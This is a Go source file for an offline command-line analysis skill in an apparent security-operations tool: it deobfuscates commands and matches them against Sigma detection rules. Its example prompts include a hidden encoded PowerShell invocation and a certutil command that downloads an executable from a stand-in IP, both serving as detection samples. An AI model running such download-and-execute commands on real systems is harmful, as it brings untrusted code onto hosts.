// Package scriptanalyzer is the local command-line analysis skill: it runs
// internal/cmdline (standard-execution filter, deobfuscation, Sigma
// process_creation rules, indicator extraction) over one or many command
// lines, offline and with an explanation for every verdict.
package scriptanalyzer

import (
	"context"
	"fmt"
	"log/slog"
	"strconv"
	"strings"
	"time"

	"github.com/spotter-soc/spotter/internal/cmdline"
	"github.com/spotter-soc/spotter/internal/skill"
)

// ID is the skill's id.
const ID = "scriptanalyzer.AnalyzeCommandLines"

// MaxLines is how many command lines one call takes.
const MaxLines = 50

// Source names the evidence source in findings.
const Source = "Spotter command-line rules"

var spec = skill.Spec{
	ID:   ID,
	Name: "Analyse command lines",
	Description: "Analyses command lines offline: skips plain standard OS executions, decodes obfuscation " +
		"(PowerShell -EncodedCommand, base64, carets, backticks, concatenation, URL encoding), evaluates Sigma " +
		"process_creation rules (built-in pack and configured directories) against the line and every decoded " +
		"layer, and returns a verdict, score, the matched rules with ATT&CK techniques, the decoded forms and " +
		"the indicators found in them.",
	ModelDescription: "Judge whether command lines (Windows, Linux or macOS) are malicious: decode obfuscated " +
		"PowerShell and shell commands and match them against detection rules. Give up to 50 command lines; " +
		"optionally the OS, image, parent process and user they share.",
	Examples: []string{
		"Is this command line malicious: powershell -nop -w hidden -enc SQBFAFgA...",
		"Decode and explain: certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe",
		"Analyse the process command lines of this incident",
	},
	Aliases: []string{"ScriptAnalyzer"},
	Inputs: []skill.Input{
		{Name: "cmdlines", Type: skill.TypeStringList, Required: true, Min: skill.Int(1), Max: skill.Int(MaxLines),
			Description: "command lines to analyse, one per item", Placeholder: "powershell -enc SQBFAFgA..."},
		{Name: "os", Type: skill.TypeString,
			Description: "operating system of the lines (windows, linux, macos); guessed from each line when empty"},
		{Name: "image", Type: skill.TypeString, Description: "executable path of the process, when known"},
		{Name: "parent", Type: skill.TypeString, Description: "parent process: its image path or its command line"},
		{Name: "user", Type: skill.TypeString, Description: "account that ran the process"},
	},
	Enriches:       []string{"process"},
	IndicatorInput: "cmdlines",
	Section:        "processes",
	CacheTTL:       24 * time.Hour, // the analysis is deterministic for a given rule set
}

// Plugin is the local command-line analysis plugin: always available.
type Plugin struct{}

// New returns the plugin.
func New() skill.Plugin { return Plugin{} }

// Info implements skill.Plugin.
func (Plugin) Info() skill.PluginInfo {
	return skill.PluginInfo{
		Name:        "scriptanalyzer",
		Description: "Local, offline and explainable command-line analysis with Sigma rules and deobfuscation",
		Settings: []skill.Setting{
			{Name: "rules_dirs", Description: "comma-separated directories of extra Sigma process_creation rules"},
			{Name: "skip_commands", Description: "comma-separated extra standard commands that are skipped, not analysed"},
			{Name: "include_builtin", Description: "load the built-in rule pack (true or false)", Default: "true"},
		},
		Skills: []skill.Spec{spec},
	}
}

// New implements skill.Plugin: it loads and compiles the rules once for
// every call the skill will serve. A rules directory that cannot be read is
// an error; a rule file that cannot be loaded is logged and skipped.
func (Plugin) New(env skill.Env) ([]skill.Skill, error) {
	log := env.Log
	if log == nil {
		log = slog.New(slog.DiscardHandler)
	}
	builtin := true
	if v := strings.TrimSpace(env.Settings["include_builtin"]); v != "" {
		b, err := strconv.ParseBool(v)
		if err != nil {
			return nil, fmt.Errorf("scriptanalyzer: include_builtin %q: expected true or false", v)
		}
		builtin = b
	}
	dirs := splitList(env.Settings["rules_dirs"])
	if !builtin && len(dirs) == 0 {
		return nil, fmt.Errorf("scriptanalyzer: no rules: expected include_builtin true or at least one rules_dirs entry")
	}
	var rules []*cmdline.Rule
	if builtin {
		res := cmdline.LoadBuiltin()
		for _, err := range res.Errors {
			log.Warn("scriptanalyzer: built-in rule not loaded", "error", err)
		}
		rules = append(rules, res.Rules...)
	}
	for _, dir := range dirs {
		res, err := cmdline.LoadDir(dir)
		if err != nil {
			return nil, fmt.Errorf("scriptanalyzer: rules_dirs: %w", err)
		}
		for _, err := range res.Errors {
			log.Warn("scriptanalyzer: rule file not loaded", "error", err)
		}
		for _, r := range res.Rules {
			for _, p := range r.Problems {
				log.Warn("scriptanalyzer: rule part cannot be evaluated", "rule", r.Source, "problem", p)
			}
		}
		log.Info("scriptanalyzer: rules loaded", "dir", dir, "rules", len(res.Rules), "errors", len(res.Errors), "other_log_sources", len(res.Skipped))
		rules = append(rules, res.Rules...)
	}
	a := cmdline.NewAnalyzer(cmdline.NewRuleSet(rules), cmdline.AnalyzerOptions{SkipCommands: splitList(env.Settings["skip_commands"])})
	return []skill.Skill{&analyzeSkill{analyzer: a}}, nil
}

func splitList(s string) []string {
	var out []string
	for _, p := range strings.Split(s, ",") {
		if p = strings.TrimSpace(p); p != "" {
			out = append(out, p)
		}
	}
	return out
}

type analyzeSkill struct {
	analyzer *cmdline.Analyzer
}

func (s *analyzeSkill) Spec() skill.Spec { return spec }

// Run analyses every command line with the shared optional context. The
// result's Data is the list of per-line analyses; every line also gets a
// process finding whose indicator is the original command line.
func (s *analyzeSkill) Run(ctx context.Context, in skill.Inputs) (*skill.Result, error) {
	common := cmdline.Input{OS: in.String("os"), Image: in.String("image"), User: in.String("user")}
	common.ParentImage, common.ParentCommandLine = cmdline.SplitParent(in.String("parent"))
	lines := in.Strings("cmdlines")
	data := make([]cmdline.Analysis, 0, len(lines))
	res := &skill.Result{Findings: []skill.Finding{}}
	for _, line := range lines {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		li := common
		li.CommandLine = line
		an := s.analyzer.Analyze(li)
		data = append(data, an)
		res.Findings = append(res.Findings, finding(an))
	}
	res.Data = data
	res.Summary = summary(data)
	return res, nil
}

// finding turns one analysis into the process finding for its command line.
func finding(an cmdline.Analysis) skill.Finding {
	f := skill.Finding{
		Indicator: an.CommandLine, Type: "process", Skill: ID, Level: an.Verdict, Score: an.Score,
		Summary: an.Summary, Source: Source, Section: spec.Section,
	}
	for _, h := range an.Rules {
		f.Reasons = append(f.Reasons, h.Explanation())
	}
	if n := len(an.Decoded); n > 0 {
		f.Reasons = append(f.Reasons, fmt.Sprintf("decoded %d layer(s): %s", n, techniques(an.Decoded)))
	}
	return f
}

func techniques(layers []cmdline.Layer) string {
	var out []string
	for _, l := range layers {
		out = append(out, l.Technique)
	}
	return strings.Join(out, ", ")
}

// summary is a short Markdown overview of the analyses.
func summary(data []cmdline.Analysis) string {
	counts := map[skill.Level]int{}
	skipped := 0
	for _, an := range data {
		if an.Skipped {
			skipped++
			continue
		}
		counts[an.Verdict]++
	}
	var parts []string
	for _, l := range skill.Levels {
		if n := counts[l]; n > 0 {
			parts = append(parts, fmt.Sprintf("%d %s", n, l))
		}
	}
	if skipped > 0 {
		parts = append(parts, fmt.Sprintf("%d skipped as standard executions", skipped))
	}
	var b strings.Builder
	fmt.Fprintf(&b, "**%d command line(s)**: %s\n", len(data), strings.Join(parts, ", "))
	for _, an := range data {
		if an.Skipped || len(an.Rules) == 0 {
			continue
		}
		fmt.Fprintf(&b, "- `%s` — **%s** (%d): %s\n", shorten(an.CommandLine, 120), an.Verdict, an.Score, an.Summary)
	}
	return b.String()
}

// shorten cuts s to at most n runes for display, marking the cut; backticks
// are replaced so the Markdown code span stays intact.
func shorten(s string, n int) string {
	s = strings.ReplaceAll(s, "`", "'")
	r := []rune(s)
	if len(r) <= n {
		return s
	}
	return string(r[:n-1]) + "…"
}
